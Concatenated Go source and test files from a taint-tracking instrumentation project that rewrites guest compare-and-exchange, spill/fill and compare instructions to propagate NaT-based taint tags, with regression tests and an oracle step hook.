// emitHandler appends the shared user-level handler: it reports the
// violation through a dedicated syscall, at user level, where a real
// deployment could filter false alarms or collect forensics before
// deciding (the paper's motivation for chk.s-based detection).
func (in *inserter) emitHandler() {
	if !in.usedHandler {
		return
	}
	in.out.Symbols[handlerSym] = len(in.out.Text)
	in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpSyscall, Imm: isa.SysUserAlert})
}

// emitSerializedRMW updates sz tag bits at rTag with a lock-free
// ld1/cmpxchg1 retry loop (compare value through ar.ccv), so concurrent
// threads can never lose each other's tag updates. The mask is built once
// outside the loop; pT/pF (the data's tnat result) select set vs clear.
// The guest's own ar.ccv is saved through rAddr and restored afterwards,
// so an original cmpxchg whose compare value was set before the store
// block still sees it. Clobbers rOff, rBit and rAddr, so any cached tag
// translation dies with it.
func (in *inserter) emitSerializedRMW(sz uint8) {
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMovFromCcv, Dest: rAddr})
	if sz == 8 {
		in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMovl, Dest: rMask, Imm: 0xff})
	} else {
		in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpAndi, Dest: rBit, Src1: rOff, Imm: 7})
		in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMovl, Dest: rMask, Imm: int64(1)<<sz - 1})
		in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpShl, Dest: rMask, Src1: rMask, Src2: rBit})
	}
	in.casN++
	label := fmt.Sprintf(".shift.cas.%d", in.casN)
	in.out.Symbols[label] = len(in.out.Text)
	in.add(isa.ClassStoreTagMem, isa.Instruction{Op: isa.OpLd, Dest: rVal, Src1: rTag, Size: 1})
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMov, Dest: rBit, Src1: rVal})
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpOr, Qp: pT, Dest: rBit, Src1: rBit, Src2: rMask})
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpAndcm, Qp: pF, Dest: rBit, Src1: rBit, Src2: rMask})
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMovToCcv, Src1: rVal})
	in.add(isa.ClassStoreTagMem, isa.Instruction{Op: isa.OpCmpxchg, Dest: rOff, Src1: rTag, Src2: rBit, Size: 1})
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpCmp, Cond: isa.CondNE, P1: pT2, P2: pF2, Src1: rOff, Src2: rVal})
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpBr, Qp: pT2, Label: label})
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMovToCcv, Src1: rAddr})
	// rOff is gone; a cached translation must not be reused.
	in.tagFor = -1
}

// emitCmpxchg rewrites a guest atomic compare-and-exchange under the same
// Figure 5 discipline as loads and stores — the store form the paper's
// §4.4 leaves uninstrumented, so a committed exchange used to leave stale
// tag bits behind. The rewritten block behaves as a load for the
// destination (it is tainted from the OLD tag state of the location) and
// as a store for the bitmap (on a committed exchange the unit's tags are
// set from the new data's NaT bit); a failed compare leaves the bitmap
// untouched. The exchange is retargeted at rAddr so the old value
// survives even when the original destination is r0 — the success test
// for the tag-update branch needs it.
func (in *inserter) emitCmpxchg(src *isa.Instruction, permissive bool) {
	sz := src.Size
	g := in.opt.Gran

	addr := src.Src1
	if permissive {
		in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMov, Dest: rAddr2, Src1: addr})
		in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpTnat, P1: pT2, P2: pF2, Src1: rAddr2})
		in.emitClean(rAddr2, pT2, isa.ClassNatGen)
		addr = rAddr2
	}

	// Instruction 1 of Figure 5: is the new data tainted? cmpxchg has no
	// spill form, so the stored copy is always NaT-stripped first.
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpTnat, P1: pT, P2: pF, Src1: src.Src2})
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMov, Dest: rMask, Src1: src.Src2})
	in.emitClean(rMask, pT, isa.ClassNatGen)

	orig := *src
	orig.Src1, orig.Src2, orig.Dest = addr, rMask, rAddr
	in.out.Text = append(in.out.Text, orig)

	// Old tag state, read before the update: it taints the destination
	// exactly as a load of the location would.
	key := int(src.Src1)
	if permissive {
		key = -1
	}
	in.emitTagAddr(addr, isa.ClassStoreCompute, key)
	in.add(isa.ClassLoadTagMem, isa.Instruction{Op: isa.OpLd, Dest: rVal, Src1: rTag, Size: 1})
	if g == taint.Byte && sz < 8 {
		in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpAndi, Dest: rBit, Src1: rOff, Imm: 7})
		in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpShr, Dest: rVal, Src1: rVal, Src2: rBit})
		in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpAndi, Dest: rVal, Src1: rVal, Imm: int64(1)<<sz - 1})
	}
	in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpCmpi, Cond: isa.CondNE, P1: pT2, P2: pF2, Src1: rVal, Imm: 0})

	// Deliver the old value (and its taint) to the original destination.
	// The old value is parked in rBit first: the NaT-per-use ablation
	// regenerates the NaT source with a sequence that clobbers rAddr.
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMov, Dest: rBit, Src1: rAddr})
	if src.Dest != isa.RegZero {
		in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMov, Dest: src.Dest, Src1: rAddr})
		if in.opt.Feat.SetClrNaT {
			in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpSetNat, Qp: pT2, Dest: src.Dest})
		} else {
			if in.opt.NaTPerUse {
				in.emitNaTGen()
			}
			in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpAdd, Qp: pT2, Dest: src.Dest, Src1: src.Dest, Src2: rNaT})
		}
	}

	// Did the exchange commit? Only then does the bitmap change.
	in.casN++
	label := fmt.Sprintf(".shift.xchg.%d", in.casN)
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMovFromCcv, Dest: rVal})
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpCmp, Cond: isa.CondNE, P1: pT2, P2: pF2, Src1: rBit, Src2: rVal})
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpBr, Qp: pT2, Label: label})
	switch {
	case g.WholeByte():
		in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMov, Dest: rVal, Src1: isa.RegZero})
		in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpAddi, Qp: pT, Dest: rVal, Src1: isa.RegZero, Imm: 1})
		in.add(isa.ClassStoreTagMem, isa.Instruction{Op: isa.OpSt, Src1: rTag, Src2: rVal, Size: 1})
	case in.opt.SerializedTags:
		in.emitSerializedRMW(sz)
	default:
		in.add(isa.ClassStoreTagMem, isa.Instruction{Op: isa.OpLd, Dest: rVal, Src1: rTag, Size: 1})
		if sz == 8 {
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpOri, Qp: pT, Dest: rVal, Src1: rVal, Imm: 0xff})
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpAndi, Qp: pF, Dest: rVal, Src1: rVal, Imm: ^int64(0xff)})
		} else {
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpAndi, Dest: rBit, Src1: rOff, Imm: 7})
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMovl, Dest: rMask, Imm: int64(1)<<sz - 1})
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpShl, Dest: rMask, Src1: rMask, Src2: rBit})
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpOr, Qp: pT, Dest: rVal, Src1: rVal, Src2: rMask})
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpAndcm, Qp: pF, Dest: rVal, Src1: rVal, Src2: rMask})
		}
		in.add(isa.ClassStoreTagMem, isa.Instruction{Op: isa.OpSt, Src1: rTag, Src2: rVal, Size: 1})
	}
	in.out.Symbols[label] = len(in.out.Text)
	// The two join paths disagree on the scratch state; drop any cached
	// translation rather than reason about it.
	in.tagFor = -1
}

// emitRelaxedCmp rewrites a NaT-sensitive compare so tainted operands
// compare normally (§3.1, §4.1 "Relaxing NaT-sensitive Instructions").
// With the NaT-aware-compare enhancement the relaxation vanishes into a
// single cmp.na.
func (in *inserter) emitRelaxedCmp(src *isa.Instruction) {
	if in.opt.Feat.NaTAwareCmp {
		na := *src
		if src.Op == isa.OpCmp {
			na.Op = isa.OpCmpNa
		} else {
			na.Op = isa.OpCmpiNa
		}
		in.out.Text = append(in.out.Text, na)
		return
	}

	// Clean a copy of the first operand.
	in.add(isa.ClassRelax, isa.Instruction{Op: isa.OpMov, Qp: src.Qp, Dest: rAddr2, Src1: src.Src1})
	in.add(isa.ClassRelax, isa.Instruction{Op: isa.OpTnat, Qp: src.Qp, P1: pT, P2: pF, Src1: rAddr2})
	in.emitClean(rAddr2, pT, isa.ClassRelax)

	relaxed := *src
	relaxed.Src1 = rAddr2
	if src.Op == isa.OpCmp {
		in.add(isa.ClassRelax, isa.Instruction{Op: isa.OpMov, Qp: src.Qp, Dest: rMask, Src1: src.Src2})
		in.add(isa.ClassRelax, isa.Instruction{Op: isa.OpTnat, Qp: src.Qp, P1: pT2, P2: pF2, Src1: rMask})
		in.emitClean(rMask, pT2, isa.ClassRelax)
		relaxed.Src2 = rMask
	}
	in.out.Text = append(in.out.Text, relaxed)
}
