package instrument

import (
	"fmt"
	"testing"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/mem"
	"shift/internal/taint"
)

// These tests pin the cmpxchg data path the paper's Figure 5 discipline
// used to miss: a guest compare-and-exchange is a store when it commits
// and a load always, so the pass must update the bitmap on commit and
// taint the destination from the location's OLD tags. Before the rewrite
// existed, a committed exchange left stale tag bits behind — and
// exchanging a tainted (NaT) value trapped outright, since cmpxchg has no
// spill form.

// exitOS handles just the exit syscall.
type exitOS struct{}

func (exitOS) Syscall(m *machine.Machine, num int64) (uint64, *machine.Trap) {
	if num == isa.SysExit {
		m.Halt(m.GR[isa.RegArg0])
		return 0, nil
	}
	return 0, &machine.Trap{Kind: machine.TrapHostError, PC: m.PC, Ins: "syscall"}
}

var (
	xchgSrc = mem.Addr(2, 0x100) // tainted source data lives here
	xchgDst = mem.Addr(2, 0x200) // exchange target
)

// runTagged assembles src, applies the pass, seeds memory and tags, and
// runs the result to completion.
func runTagged(t *testing.T, src string, opt Options, seed func(*mem.Memory, *taint.Space)) (*machine.Machine, *taint.Space, *machine.Trap) {
	t.Helper()
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	out, err := Apply(p, opt)
	if err != nil {
		t.Fatalf("instrument: %v", err)
	}
	memory := mem.New()
	tags := taint.NewSpace(memory, opt.Gran) // maps region 0
	memory.MapRegion(1, 0)
	memory.MapRegion(2, 0)
	if f := memory.WriteBytes(out.DataBase, out.Data); f != nil {
		t.Fatalf("loading data: %v", f)
	}
	if seed != nil {
		seed(memory, tags)
	}
	m := machine.New(out, memory)
	m.OS = exitOS{}
	m.Feat = opt.Feat
	m.GR[isa.RegSP] = int64(mem.Addr(2, 0x10000))
	trap := m.Run()
	return m, tags, trap
}

// peek reads n little-endian bytes without disturbing anything.
func peek(t *testing.T, m *mem.Memory, addr uint64, n int) uint64 {
	t.Helper()
	var v uint64
	for i := n - 1; i >= 0; i-- {
		b, f := m.Peek(addr + uint64(i))
		if f != nil {
			t.Fatal(f)
		}
		v = v<<8 | uint64(b)
	}
	return v
}

// modes every dynamic scenario runs under: the tag-update emission has
// three distinct joins (whole-byte, serialized retry loop, plain RMW) and
// the destination-tainting step interacts with the NaT-per-use ablation,
// which regenerates the NaT source with a sequence that clobbers scratch
// registers mid-block.
var xchgModes = []struct {
	name string
	opt  Options
}{
	{"byte", Options{Gran: taint.Byte}},
	{"word", Options{Gran: taint.Word}},
	{"byte+ser", Options{Gran: taint.Byte, SerializedTags: true}},
	{"byte+peruse", Options{Gran: taint.Byte, NaTPerUse: true}},
	{"byte+setclr", Options{Gran: taint.Byte, Feat: machine.Features{SetClrNaT: true}}},
}

// A committed exchange of tainted data must set the target's tag bits —
// and must not trap, even though the exchanged value carries a NaT.
func TestCmpxchgStoreTaintsTarget(t *testing.T) {
	src := fmt.Sprintf(`
	movl r1 = %#x
	ld8 r2 = [r1]            ; picks up the seeded taint
	movl r3 = %#x
	mov ccv = r0             ; target holds zero: the exchange commits
	cmpxchg8 r4 = [r3], r2
	mov r32 = r0
	syscall 1
`, xchgSrc, xchgDst)
	for _, mode := range xchgModes {
		t.Run(mode.name, func(t *testing.T) {
			m, tags, trap := runTagged(t, src, mode.opt, func(memory *mem.Memory, tags *taint.Space) {
				if f := memory.Write(xchgSrc, 8, 42); f != nil {
					t.Fatal(f)
				}
				if err := tags.SetRange(xchgSrc, 8); err != nil {
					t.Fatal(err)
				}
			})
			if trap != nil {
				t.Fatalf("tainted exchange trapped: %v", trap)
			}
			if got := peek(t, m.Mem, xchgDst, 8); got != 42 {
				t.Fatalf("exchange did not commit: target holds %d", got)
			}
			tainted, err := tags.Tainted(xchgDst, 8)
			if err != nil {
				t.Fatal(err)
			}
			if !tainted {
				t.Error("committed exchange of tainted data left the target's tags clean")
			}
			if m.NaT[4] {
				t.Error("old value came from a clean location but the destination is tainted")
			}
		})
	}
}

// The destination is tainted from the location's OLD tags (a load), and a
// committed clean exchange clears the target's tags (a store). The guest's
// own ar.ccv must survive the instrumentation block.
func TestCmpxchgOldValueCarriesTaint(t *testing.T) {
	src := fmt.Sprintf(`
	movl r1 = %#x
	movl r2 = 5
	mov ccv = r2             ; matches: the exchange commits
	movl r3 = 9
	cmpxchg8 r4 = [r1], r3   ; clean store over a tainted location
	mov r5 = ccv             ; the block must not clobber the guest's ccv
	mov r32 = r0
	syscall 1
`, xchgDst)
	for _, mode := range xchgModes {
		t.Run(mode.name, func(t *testing.T) {
			m, tags, trap := runTagged(t, src, mode.opt, func(memory *mem.Memory, tags *taint.Space) {
				if f := memory.Write(xchgDst, 8, 5); f != nil {
					t.Fatal(f)
				}
				if err := tags.SetRange(xchgDst, 8); err != nil {
					t.Fatal(err)
				}
			})
			if trap != nil {
				t.Fatal(trap)
			}
			if got := peek(t, m.Mem, xchgDst, 8); got != 9 {
				t.Fatalf("exchange did not commit: target holds %d", got)
			}
			if !m.NaT[4] || m.GR[4] != 5 {
				t.Errorf("old value r4 = %d (NaT %v), want 5 with NaT set from the old tags",
					m.GR[4], m.NaT[4])
			}
			tainted, err := tags.Tainted(xchgDst, 8)
			if err != nil {
				t.Fatal(err)
			}
			if tainted {
				t.Error("committed clean exchange left stale taint on the target")
			}
			if m.GR[5] != 5 {
				t.Errorf("guest ar.ccv clobbered: read back %d, want 5", m.GR[5])
			}
		})
	}
}

// A failed compare stores nothing, so the bitmap must not change — but the
// destination still observed the old value and inherits its taint.
func TestCmpxchgFailedCASLeavesTagsAlone(t *testing.T) {
	src := fmt.Sprintf(`
	movl r1 = %#x
	movl r2 = 1
	mov ccv = r2             ; stale: the exchange fails
	movl r3 = 9
	cmpxchg8 r4 = [r1], r3
	mov r32 = r0
	syscall 1
`, xchgDst)
	for _, mode := range xchgModes {
		t.Run(mode.name, func(t *testing.T) {
			m, tags, trap := runTagged(t, src, mode.opt, func(memory *mem.Memory, tags *taint.Space) {
				if f := memory.Write(xchgDst, 8, 5); f != nil {
					t.Fatal(f)
				}
				if err := tags.SetRange(xchgDst, 8); err != nil {
					t.Fatal(err)
				}
			})
			if trap != nil {
				t.Fatal(trap)
			}
			if got := peek(t, m.Mem, xchgDst, 8); got != 5 {
				t.Fatalf("failed exchange wrote memory: target holds %d", got)
			}
			tainted, err := tags.Tainted(xchgDst, 8)
			if err != nil {
				t.Fatal(err)
			}
			if !tainted {
				t.Error("failed exchange cleared the target's tags")
			}
			if !m.NaT[4] || m.GR[4] != 5 {
				t.Errorf("old value r4 = %d (NaT %v), want 5 with NaT set", m.GR[4], m.NaT[4])
			}
		})
	}
}

// At byte granularity a one-byte exchange updates exactly its own bit of
// the shared tag byte, in both directions (set and clear), leaving the
// neighbouring byte's bit alone.
func TestCmpxchg1TouchesOnlyItsBit(t *testing.T) {
	for _, serialized := range []bool{false, true} {
		name := "plain"
		if serialized {
			name = "serialized"
		}
		t.Run(name, func(t *testing.T) {
			opt := Options{Gran: taint.Byte, SerializedTags: serialized}

			// Clean exchange over a tainted byte: only bit 0 clears.
			clearSrc := fmt.Sprintf(`
	movl r1 = %#x
	movl r2 = 5
	mov ccv = r2
	movl r3 = 9
	cmpxchg1 r4 = [r1], r3
	mov r32 = r0
	syscall 1
`, xchgDst)
			m, tags, trap := runTagged(t, clearSrc, opt, func(memory *mem.Memory, tags *taint.Space) {
				if f := memory.Write(xchgDst, 1, 5); f != nil {
					t.Fatal(f)
				}
				if f := memory.Write(xchgDst+1, 1, 7); f != nil {
					t.Fatal(f)
				}
				if err := tags.SetRange(xchgDst, 2); err != nil {
					t.Fatal(err)
				}
			})
			if trap != nil {
				t.Fatal(trap)
			}
			if got := peek(t, m.Mem, xchgDst, 1); got != 9 {
				t.Fatalf("exchange did not commit: target holds %d", got)
			}
			if mine, _ := tags.Tainted(xchgDst, 1); mine {
				t.Error("clean one-byte exchange left its own bit set")
			}
			if neighbour, _ := tags.Tainted(xchgDst+1, 1); !neighbour {
				t.Error("one-byte exchange clobbered its neighbour's tag bit")
			}

			// Tainted exchange over a clean byte: only bit 0 sets.
			setSrc := fmt.Sprintf(`
	movl r1 = %#x
	ld1 r2 = [r1]            ; tainted byte
	movl r3 = %#x
	mov ccv = r0
	cmpxchg1 r4 = [r3], r2
	mov r32 = r0
	syscall 1
`, xchgSrc, xchgDst)
			m, tags, trap = runTagged(t, setSrc, opt, func(memory *mem.Memory, tags *taint.Space) {
				if f := memory.Write(xchgSrc, 1, 42); f != nil {
					t.Fatal(f)
				}
				if err := tags.SetRange(xchgSrc, 1); err != nil {
					t.Fatal(err)
				}
			})
			if trap != nil {
				t.Fatal(trap)
			}
			if got := peek(t, m.Mem, xchgDst, 1); got != 42 {
				t.Fatalf("exchange did not commit: target holds %d", got)
			}
			if mine, _ := tags.Tainted(xchgDst, 1); !mine {
				t.Error("tainted one-byte exchange left its bit clean")
			}
			if neighbour, _ := tags.Tainted(xchgDst+1, 1); neighbour {
				t.Error("one-byte exchange tainted its neighbour's bit")
			}
		})
	}
}
