package instrument

import (
	"strings"
	"testing"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/taint"
)

// assembleUnat builds the spill-call-fill guest used by both contract
// tests below.
func assembleUnat(t *testing.T, src string) *isa.Program {
	t.Helper()
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	return p
}

// In this ABI, UNAT is NOT preserved across calls: the compiler saves it
// to the frame before every call and restores it after (funcgen.go's
// prologue and exprgen.go's call sequence). A st8.spill/ld8.fill pair
// straddling a br.call without that save therefore reads a UNAT bit the
// callee may have clobbered, and the verify gate must reject it. This
// pins the edgeRet rule (callee UNAT untrusted) that an earlier
// exploratory probe mistook for a false positive.
func TestVerifyRejectsUnsavedUnatAcrossCall(t *testing.T) {
	p := assembleUnat(t, `
main:
	addi r12 = r12, -16
	st8.spill [r12] = r4, 3
	br.call b0 = leaf
	ld8.fill r4 = [r12], 3
	addi r12 = r12, 16
	syscall 1
leaf:
	movl r8 = 1
	br.ret b0
`)
	_, err := Apply(p, Options{Gran: taint.Byte})
	if err == nil {
		t.Fatal("Apply accepted a ld8.fill whose UNAT bit crossed a call unsaved")
	}
	if !strings.Contains(err.Error(), "unat-pairing") {
		t.Errorf("rejection is not the unat-pairing invariant: %v", err)
	}
}

// The compiler's discipline — mov-from-unat + store before the call,
// load + mov-to-unat after — makes the same fill verifiable.
func TestVerifyAcceptsSavedUnatAcrossCall(t *testing.T) {
	p := assembleUnat(t, `
main:
	addi r12 = r12, -32
	st8.spill [r12] = r4, 3
	mov r2 = unat
	addi r3 = r12, 8
	st8 [r3] = r2
	br.call b0 = leaf
	addi r3 = r12, 8
	ld8 r2 = [r3]
	mov unat = r2
	ld8.fill r4 = [r12], 3
	addi r12 = r12, 32
	syscall 1
leaf:
	movl r8 = 1
	br.ret b0
`)
	if _, err := Apply(p, Options{Gran: taint.Byte}); err != nil {
		t.Fatalf("Apply rejected the ABI save/restore discipline: %v", err)
	}
}
