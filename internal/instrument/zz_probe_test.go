package instrument

import (
	"testing"

	"shift/internal/asm"
	"shift/internal/taint"
)

// Guest function: spill a callee-saved reg, call a leaf, fill on return.
// edgeRet zeroes the must-unat set; does the verify gate reject this?
func TestProbeSpillCallFill(t *testing.T) {
	src := `
main:
	addi r12 = r12, -16
	st8.spill [r12] = r4, 3
	br.call b0 = leaf
	ld8.fill r4 = [r12], 3
	addi r12 = r12, 16
	syscall 1
leaf:
	movl r8 = 1
	br.ret b0
`
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Skipf("assemble: %v", err)
	}
	if _, err := Apply(p, Options{Gran: taint.Byte}); err != nil {
		t.Fatalf("Apply failed: %v", err)
	}
}
