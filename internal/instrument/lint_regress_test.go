package instrument

import (
	"testing"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/mem"
	"shift/internal/staticcheck"
	"shift/internal/taint"
)

// Regression tests for real invariant violations the static checker
// surfaced in the pass itself. Each program below made the pre-fix pass
// emit output that violates its own contract (the gate inside Apply now
// rejects such output, so a regression shows up as an Apply error or as
// the structural assertion failing).

func assembleSrc(t *testing.T, src string) *isa.Program {
	t.Helper()
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// Fix A: the keep-live NaT source (and the kept OffsetMask under
// Optimize) used to be generated unconditionally. In a program where
// nothing consumes them — no loads at all, or every taint application
// using setnat — the generation is dead weight the checker flags as an
// unconsumed speculative load.
func TestNoDeadNaTSourceGeneration(t *testing.T) {
	countLdS := func(p *isa.Program) int {
		n := 0
		for i := range p.Text {
			if p.Text[i].Op == isa.OpLdS && p.Text[i].Dest == isa.RegNaT {
				n++
			}
		}
		return n
	}
	writesKeep := func(p *isa.Program) bool {
		for i := range p.Text {
			if p.Text[i].Op.HasDest() && p.Text[i].Dest == isa.RegKeep {
				return true
			}
		}
		return false
	}

	// No memory traffic at all: neither the NaT source nor the kept
	// mask has a consumer.
	loadless := assembleSrc(t, `
main:
	movl r1 = 5
	addi r1 = r1, 2
	movl r32 = 0
	syscall 1
`)
	out, err := Apply(loadless, Options{Gran: taint.Byte, Optimize: true})
	if err != nil {
		t.Fatal(err)
	}
	if n := countLdS(out); n != 0 {
		t.Errorf("loadless program got %d NaT-source generations, want 0", n)
	}
	if writesKeep(out) {
		t.Error("loadless program keeps the OffsetMask register live with no consumer")
	}

	// Stores test the *source's* NaT bit; only loads consume r127. A
	// store-only program needs the mask (under Optimize) but not the
	// NaT source.
	storeOnly := assembleSrc(t, `
.data
w: .word8 0
.text
main:
	movl r1 = w
	movl r2 = 3
	st8 [r1] = r2
	movl r32 = 0
	syscall 1
`)
	out, err = Apply(storeOnly, Options{Gran: taint.Byte, Optimize: true})
	if err != nil {
		t.Fatal(err)
	}
	if n := countLdS(out); n != 0 {
		t.Errorf("store-only program got %d NaT-source generations, want 0", n)
	}
	if !writesKeep(out) {
		t.Error("store-only Optimize program never materialises the kept OffsetMask")
	}

	// With setnat available, loads taint their destination directly;
	// r127 has no consumer in any program.
	loads := assembleSrc(t, `
.data
w: .word8 0
.text
main:
	movl r1 = w
	ld8 r2 = [r1]
	movl r32 = 0
	syscall 1
`)
	out, err = Apply(loads, Options{Gran: taint.Byte, Feat: machine.Features{SetClrNaT: true}})
	if err != nil {
		t.Fatal(err)
	}
	if n := countLdS(out); n != 0 {
		t.Errorf("setnat program got %d NaT-source generations, want 0", n)
	}
}

// Fix B: a non-ABI st8.spill / ld8.fill pair (hand-written register
// preservation through data memory) used to pass through Apply
// uninstrumented — a propagation-completeness hole: the spill never
// updated the bitmap and the fill never consulted it.
func TestNonABISpillFillInstrumented(t *testing.T) {
	p := assembleSrc(t, `
.data
slot: .space 8
.text
main:
	movl r1 = slot
	movl r2 = 9
	st8.spill [r1] = r2, 5
	ld8.fill r3 = [r1], 5
	movl r32 = 0
	syscall 1
`)
	out, err := Apply(p, Options{Gran: taint.Byte})
	if err != nil {
		t.Fatal(err)
	}
	// The spill must keep its own UNAT bit (the program pairs it with
	// the fill), and both must have gained tag traffic.
	var spillBits []int64
	tagWrites, tagReads := 0, 0
	for i := range out.Text {
		ins := &out.Text[i]
		if ins.Class == isa.ClassOrig && ins.Op == isa.OpStSpill && !ins.ABI {
			spillBits = append(spillBits, ins.Imm)
		}
		if ins.Class == isa.ClassStoreTagMem && ins.Op == isa.OpSt {
			tagWrites++
		}
		if ins.Class == isa.ClassLoadTagMem && ins.Op == isa.OpLd {
			tagReads++
		}
	}
	found := false
	for _, b := range spillBits {
		if b == 5 {
			found = true
		}
	}
	if !found {
		t.Errorf("original spill's UNAT bit not preserved: bits %v lack 5", spillBits)
	}
	if tagWrites == 0 {
		t.Error("non-ABI spill produced no tag-bitmap write")
	}
	if tagReads == 0 {
		t.Error("non-ABI fill produced no tag-bitmap read")
	}
	if fs := staticcheck.Check(out); len(fs) != 0 {
		t.Errorf("instrumented spill/fill program not contract-clean: %v", fs)
	}
}

// Fix C, part 1: the compare-cleanliness tracker walks the text
// linearly, but a raw (unlabelled) branch can join mid-stream with
// dirtier registers than the fallthrough established. Before the fix,
// facts survived across such join points and this compare was kept
// NaT-sensitive even though the jump path delivers a possibly-NaT r2.
func TestCleanFactsResetAtRawBranchTarget(t *testing.T) {
	p := assembleSrc(t, `
.data
w: .word8 1
.text
main:
	movl r1 = w
	ld8 r2 = [r1]
	br @4
	movl r2 = 5
	cmpi.eq p6, p7 = r2, 5
	syscall 1
`)
	out, err := Apply(p, Options{Gran: taint.Byte})
	if err != nil {
		t.Fatal(err)
	}
	relaxed := 0
	for i := range out.Text {
		if out.Text[i].Class == isa.ClassRelax {
			relaxed++
		}
	}
	if relaxed == 0 {
		t.Error("compare at a raw branch target kept NaT-sensitive despite a dirty incoming path")
	}
}

// Fix C, part 2: the §6.4 tag-translation cache must also die at raw
// branch targets. A backward branch re-enters the store below with a
// different address register; reusing the translation cached by the
// load would write the wrong tag byte. The store must re-emit the
// translation: two region shifts into rTag, not one.
func TestTagTranslationNotReusedAcrossRawTarget(t *testing.T) {
	p := assembleSrc(t, `
.data
w: .word8 1
q: .word8 2
.text
main:
	movl r1 = w
	ld8 r2 = [r1]
	st8 [r1] = r2
	movl r1 = q
	br @2
`)
	out, err := Apply(p, Options{Gran: taint.Byte, Optimize: true})
	if err != nil {
		t.Fatal(err)
	}
	translations := 0
	for i := range out.Text {
		ins := &out.Text[i]
		if ins.Op == isa.OpShri && ins.Dest == 120 && ins.Imm == mem.RegionShift {
			translations++
		}
	}
	if translations != 2 {
		t.Errorf("got %d tag translations, want 2 (load and store must each translate: the store is a raw branch target)", translations)
	}
}
