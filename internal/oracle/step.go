package oracle

import (
	"shift/internal/isa"
	"shift/internal/machine"
)

// destGR returns the general register an opcode writes, if any. setnat
// and clrnat count: they write the register's NaT bit.
func destGR(ins *isa.Instruction) (uint8, bool) {
	switch ins.Op {
	case isa.OpAdd, isa.OpSub, isa.OpAnd, isa.OpAndcm, isa.OpOr, isa.OpXor,
		isa.OpShl, isa.OpShr, isa.OpSar, isa.OpMul, isa.OpDiv, isa.OpRem,
		isa.OpAddi, isa.OpAndi, isa.OpOri, isa.OpXori, isa.OpShli, isa.OpShri, isa.OpSari,
		isa.OpMov, isa.OpMovl, isa.OpLd, isa.OpLdS, isa.OpLdFill, isa.OpCmpxchg,
		isa.OpMovFromBr, isa.OpMovFromUnat, isa.OpMovFromCcv,
		isa.OpSetNat, isa.OpClrNat:
		return ins.Dest, true
	case isa.OpSyscall:
		// The OS model's return-value convention.
		return isa.RegRet, true
	}
	return 0, false
}

// PreStep implements machine.StepHook: capture the pre-state the
// post-retirement interpretation needs (effective addresses and compare
// values may be overwritten by the instruction itself).
func (o *Oracle) PreStep(m *machine.Machine, ins *isa.Instruction) {
	rs := o.regs(m.TID)
	rs.squashed = ins.Qp != 0 && !m.PR[ins.Qp]
	if rs.squashed {
		return
	}
	switch ins.Op {
	case isa.OpLd, isa.OpSt, isa.OpStSpill, isa.OpLdFill:
		rs.addr = uint64(m.GR[ins.Src1])
	case isa.OpLdS:
		rs.addr = uint64(m.GR[ins.Src1])
		// Recompute the defer decision independently of the machine: a
		// speculative load defers exactly when its address register
		// carries a token or the access itself would fault.
		rs.deferred = m.NaT[ins.Src1] || m.Mem.CheckAccess(rs.addr, int(ins.Size)) != nil
	case isa.OpCmpxchg:
		rs.addr = uint64(m.GR[ins.Src1])
		rs.ccvPre = m.CCV
		// Peek the old value here: Dest may be r0, which discards it.
		rs.xchgOld = 0
		for i := 0; i < int(ins.Size); i++ {
			b, fault := m.Mem.Peek(rs.addr + uint64(i))
			if fault != nil {
				break // the access will trap; PostStep never runs
			}
			rs.xchgOld |= uint64(b) << (8 * i)
		}
	case isa.OpSyscall:
		rs.r8 = m.GR[isa.RegRet]
		rs.r8NaT = m.NaT[isa.RegRet]
	}
}

// authoritative reports whether a store is one the instrumentation pass
// follows with a tag-bitmap update: an original-program store in an
// instrumented build. ABI register-preservation stores and
// instrumentation-emitted stores (red-zone spills, tag-byte writes)
// bypass the bitmap by design.
